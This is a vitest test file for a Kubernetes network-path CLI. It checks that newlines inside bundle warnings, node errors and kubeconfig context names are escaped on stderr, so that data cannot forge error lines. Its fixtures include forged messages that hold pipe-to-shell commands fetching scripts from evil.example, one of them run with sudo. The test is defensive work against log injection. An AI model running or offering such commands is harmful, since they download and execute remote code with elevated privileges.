// A value from a bundle or a kubeconfig that holds a newline must not start a line of its own on stderr: a bundle's
// warnings[] entry, a node's error and a context name could otherwise forge `error: … run: curl … | sh`. The real
// streams (src/cli/io.ts nodeIo, printableMessage) write one message per call and escape a newline or carriage return
// inside it; the program's own multi-line layout (the usage hint, commander's "Did you mean") is written line by line
// and kept.
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { afterEach, describe, expect, it, vi } from "vitest";
import { encodeBundle } from "../src/bundle/decode.ts";
import { nodeIo } from "../src/cli/io.ts";
import { runCli } from "../src/cli/program.ts";
import { readBundle } from "../src/io/read_bundle.ts";
import { printableMessage } from "../src/report/printable.ts";

const T = mkdtempSync(join(tmpdir(), "netpath-stderr-"));
const FORGED = "error: the bundle is corrupt; repair it with: curl -s https://evil.example/fix.sh | sudo sh";

/** Runs the CLI on the real streams (nodeIo), stdout and stderr caught as written to the process. */
async function runReal(argv: string[]): Promise<{ code: number; stderr: string }> {
  const err: string[] = [];
  const w = vi.spyOn(process.stderr, "write").mockImplementation((t: string | Uint8Array) => {
    err.push(String(t));
    return true;
  });
  const o = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
  try {
    const code = await runCli(argv, { ...nodeIo(), env: { ...process.env, NO_COLOR: "1" } });
    return { code, stderr: err.join("") };
  } finally {
    w.mockRestore();
    o.mockRestore();
  }
}
afterEach(() => vi.restoreAllMocks());

describe("printableMessage", () => {
  it("escapes a newline or carriage return inside the message, keeps the layout around it", () => {
    expect(printableMessage(`warning: harmless\n${FORGED}\r\n`)).toBe(`warning: harmless\\x0a${FORGED}\\x0d\n`);
    expect(printableMessage("\ninterrupted: deleting 1 debug pod…\n")).toBe("\ninterrupted: deleting 1 debug pod…\n");
    expect(printableMessage("\n\n")).toBe("\n\n");
    expect(printableMessage("no newline")).toBe("no newline");
  });
});

describe("the CLI's stderr, on the real streams", () => {
  it("a bundle's warning and a node's error holding newlines stay on their line", async () => {
    const doc = JSON.parse(encodeBundle(readBundle("examples/iptables-lab"), "json"));
    doc.warnings = [`harmless\n${FORGED}\nwarning: x`];
    doc.nodes[0].error = "collection failed\n\nService default/nginx: all good, nothing to see";
    const file = join(T, "nl.json");
    writeFileSync(file, JSON.stringify(doc));
    const r = await runReal(["svc/kube-dns", "-n", "kube-system", "--from", file]);
    const lines = r.stderr.split("\n").filter((l) => l !== "");
    expect(lines).toContain(`warning: harmless\\x0a${FORGED}\\x0awarning: x`);
    expect(lines.some((l) => l.startsWith("error: node k8s1: collection failed\\x0a\\x0aService default/nginx: all good"))).toBe(true);
    expect(lines.every((l) => /^(warning|error): /.test(l)), r.stderr).toBe(true);
    expect(lines).not.toContain(FORGED);
  });

  it("a kubeconfig context name holding a newline is escaped in the error line", async () => {
    const name = "prod\nanalyse it with: curl -s https://evil.example/x | sh";
    const kc = join(T, "kc-nl.yaml");
    writeFileSync(kc, [
      "apiVersion: v1",
      "kind: Config",
      `current-context: ${JSON.stringify(name)}`,
      "clusters: [{name: c, cluster: {server: 'https://127.0.0.1:1'}}]",
      `contexts: [{name: ${JSON.stringify(name)}, context: {cluster: c, user: u, namespace: default}}]`,
      "users: [{name: u, user: {token: abc}}]",
      "",
    ].join("\n"));
    const r = await runReal(["svc/web", "--kubeconfig", kc, "--request-timeout", "2s"]);
    expect(r.code).toBe(1);
    const lines = r.stderr.split("\n").filter((l) => l !== "");
    expect(lines, r.stderr).toHaveLength(1);
    expect(lines[0]).toMatch(/^error: .*prod\\x0aanalyse it with: curl/);
  });

  it("the program's own lines are kept: the usage hint, and commander's suggestion", async () => {
    const r = await runReal(["svc/web", "--from-x", "y"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe("error: unknown option '--from-x'\n(Did you mean --from?)\n(run with --help for usage)\n");
    const u = await runReal(["svc/web", "-o", "nope", "--from", "examples/iptables-lab"]);
    expect(u.code).toBe(2);
    expect(u.stderr.split("\n").filter((l) => l !== "")).toEqual([expect.stringMatching(/^error: /), "(run with --help for usage)"]);
  });
});
